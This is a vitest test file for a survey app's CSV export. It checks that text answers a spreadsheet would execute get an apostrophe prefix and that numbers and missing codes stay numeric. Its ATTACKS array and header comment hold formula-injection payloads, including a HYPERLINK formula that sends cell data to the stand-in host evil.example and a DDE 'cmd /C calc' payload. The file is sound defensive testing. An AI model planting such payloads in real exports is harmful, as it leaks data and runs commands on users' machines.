// Issue 17, finding 5: a text answer `=HYPERLINK("http://evil.example/?d="&B2,…)` came out raw in the CSV export.
// Every CSV the app writes neutralises such text; numbers, the missing codes included, stay numbers.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { generateInterviews } from '#shared/demo/generate-interviews.ts';
import { hungYen2026Survey, hungYen2026Version1 } from '#shared/demo/hung-yen-2026.ts';
import { formulaSafe } from '#shared/exporting/formula-safe.ts';
import { storeInterviews } from '../support/store-interviews.ts';
import { testApp } from '../support/test-app.ts';
import { DEMO_PASSWORDS } from '#server/demo/seed.ts';

const ATTACKS = ['=HYPERLINK("http://evil.example/?d="&B2,"Xem")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('formula-safe CSV', () => {
  it('puts an apostrophe before text a spreadsheet would run, and leaves plain numbers alone', () => {
    for (const attack of ATTACKS) expect(formulaSafe(attack)).toBe(`'${attack}`);
    for (const plain of ['-1', '-2', '-3', '+84', '12.5', 'Ý kiến = tốt', '', 'a-b']) expect(formulaSafe(plain)).toBe(plain);
  });

  it('in the data export: text answers are neutralised, the missing codes stay numbers', async () => {
    const t = await testApp({ demo: true });
    const interviews = generateInterviews({
      version: hungYen2026Version1, count: ATTACKS.length + 1, seed: 17, unitNos: hungYen2026Survey.units.map((u) => u.no),
    }).map((interview, i) => ({ ...interview, answers: { ...interview.answers, c16: i < ATTACKS.length ? ATTACKS[i]! : { missing: -2 as const } } }));
    storeInterviews(t.db, interviews);
    const cookie = await t.signIn('admin', DEMO_PASSWORDS.admin);
    for (const labels of ['0', '1']) {
      const response = await t.request(`/api/admin/exports/hung-yen-2026?format=csv&labels=${labels}`, { headers: { cookie } });
      const [header, ...rows] = Papa.parse<string[]>((await response.text()).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
      const c16 = header!.indexOf('c16');
      const byId = new Map(rows.map((row) => [row[header!.indexOf('id')], row[c16]]));
      interviews.forEach((interview, i) => {
        expect(byId.get(interview.id), `labels=${labels} #${i}`).toBe(i < ATTACKS.length ? `'${ATTACKS[i]}` : '-2');
      });
      for (const row of rows) for (const cell of row) expect(cell, `labels=${labels}`).not.toMatch(/^[=+@\t\r]/);
    }
  });
});
